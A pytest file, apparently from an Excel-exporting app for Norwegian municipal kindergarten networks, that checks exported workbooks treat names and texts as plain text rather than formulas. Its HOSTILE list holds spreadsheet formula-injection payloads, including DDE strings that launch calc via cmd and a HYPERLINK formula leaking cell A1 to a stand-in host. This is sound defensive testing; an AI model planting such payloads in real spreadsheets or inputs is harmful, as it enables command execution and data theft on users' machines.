"""Formula injection: a database full of names that look like formulas, and every kind of workbook the
app makes from it. Scanning every `<f>` element in the files' XML finds only the app's own formulas
(SUM totals), never user text; and the user text is there, as text."""

from __future__ import annotations

import html
import re
import zipfile
from datetime import date, datetime
from pathlib import Path

from exports.log_workbook import write_log_workbooks
from exports.report_xlsx import write_report_xlsx
from exports.response_sheet import build_spec, write_response_sheet
from exports.vignette_summary import collect_summary
from exports.vignette_summary_xlsx import write_summary_xlsx
from storage.services.gatherings_plan import create_gathering
from storage.services.log_templates import log_template_specs
from storage.services.municipalities import create_municipality
from storage.services.networks import create_network
from storage.services.report_data import collect_report, text_titles
from storage.services.session_logs import add_log
from storage.services.tasks import add_task
from storage.services.units import add_unit
from storage.services.vignette_sessions import capture_response, create_session
from storage.services.vignettes import create_vignette
from tests.log_world import MUNICIPALITY, PARTICIPATION, TODAY

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"Åpne skjema")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=2+2", "=1+1 barnehage"]
APP_FUNCTIONS = {"SUM"}


def hostile_world(store, tmp_path: Path):
    muni = create_municipality(store, {**MUNICIPALITY, "name": "=Fjordvik"}, PARTICIPATION)
    units = [add_unit(store, muni.id, {"name": name, "kind": kind, "staff_count": 20})
             for name, kind in zip(HOSTILE, ["kindergarten", "school"] * 4, strict=False)]
    network = create_network(store, muni.id, {"name": HOSTILE[1], "target": "kindergarten"},
                             [u.id for u in units[::2]])
    for n, text in enumerate(HOSTILE):
        create_gathering(store, muni.id, {"title": text, "kind": "network_meeting", "place": HOSTILE[-1 - n],
                                          "starts_at": datetime(2026, 12, 3 + n, 12, 30), "network_id": network.id})
        add_task(store, muni.id, {"title": text, "description": HOSTILE[-1 - n], "unit_id": units[0].id})
    for n, text in enumerate(HOSTILE):
        add_log(store, units[n].id, {"held_on": date(2026, 3, 10 + n), "theme": text, "method": text,
                                     "led_by": text, "what_done": text, "reflections": text, "next_steps": text,
                                     "staff_present": 10, "staff_total": 20}, today=TODAY)
    vignette = create_vignette(store, {"title": HOSTILE[0], "target": "both", "themes": [HOSTILE[1]],
                                       "text": "Et barn står alene i garderoben mens de andre går ut. " * 3,
                                       "follow_up_questions": [HOSTILE[2]]})
    session = create_session(store, {
        "municipality_id": muni.id, "vignette_version_id": vignette.latest.id, "held_on": date(2026, 2, 11),
        "title": HOSTILE[3], "groups": [{"name": text, "unit_kind": "kindergarten", "roles": ["leader"]}
                                        for text in HOSTILE[:3]]}).session
    for text in HOSTILE:
        capture_response(store, session.id, {"text": text + " – vi griper inn med en gang.",
                                             "unit_kind": "school", "role": "lærer"})
    return muni, network, session


def every_workbook(store, tmp_path: Path) -> list[Path]:
    muni, network, session = hostile_world(store, tmp_path)
    out = tmp_path / "ut"
    paths = write_log_workbooks(log_template_specs(store, muni.id, today=TODAY), out / "enheter")
    paths += write_log_workbooks(log_template_specs(store, muni.id, network_id=network.id, today=TODAY),
                                 out / "nettverk")
    paths.append(write_response_sheet(build_spec(store, session.id, 10), out / "svar.xlsx"))
    texts = dict.fromkeys(text_titles(), HOSTILE[0])
    for kind in ("midterm", "final"):
        write_report_xlsx(collect_report(store, muni.id, kind, None, TODAY), texts, out / f"rapport-{kind}.xlsx")
        paths.append(out / f"rapport-{kind}.xlsx")
    write_summary_xlsx(collect_summary(store, session.id), out / "oppsummering.xlsx")
    paths.append(out / "oppsummering.xlsx")
    return paths


def formulas(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        return [f for name in archive.namelist() if name.endswith(".xml")
                for f in re.findall(r"<f(?:\s[^>]*)?>(.*?)</f>", archive.read(name).decode("utf-8"), re.S)]


def texts_in(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "\n".join(archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith(".xml"))


def test_no_user_text_becomes_a_formula_in_any_workbook(store, tmp_path):
    paths = every_workbook(store, tmp_path)
    assert len(paths) == len(HOSTILE) + 1 + 1 + 2 + 1  # each unit, a network, a response sheet, two reports, a summary
    seen = []
    for path in paths:
        for formula in formulas(path):
            seen.append(formula)
            assert set(re.findall(r"[A-Z][A-Z0-9.]*(?=\()", formula)) <= APP_FUNCTIONS, (path.name, formula)
            assert not re.search(r"cmd|calc|HYPERLINK|x\.example|@|\"", formula), (path.name, formula)
    assert any(f.startswith("SUM(") for f in seen)  # the reports' own totals are still formulas
    every_text = html.unescape("".join(texts_in(p) for p in paths))
    assert HOSTILE[0] in every_text  # the names are there, as text
    assert "+cmd|' /C calc'!A0" in every_text


def test_forms_with_such_names_read_back_unaltered(store, tmp_path):
    from exports.log_workbook import read_log_workbook
    from exports.response_sheet import read_response_sheet

    paths = every_workbook(store, tmp_path)
    forms = [p for p in paths if p.name.startswith("Øktlogg")]
    units = {sheet.unit_name for p in forms for sheet in read_log_workbook(p).sheets}
    assert units == {text.strip() for text in HOSTILE}  # every name kept by the hidden sheet, as text
    assert read_response_sheet(next(p for p in paths if p.name == "svar.xlsx")).session_title == HOSTILE[3]
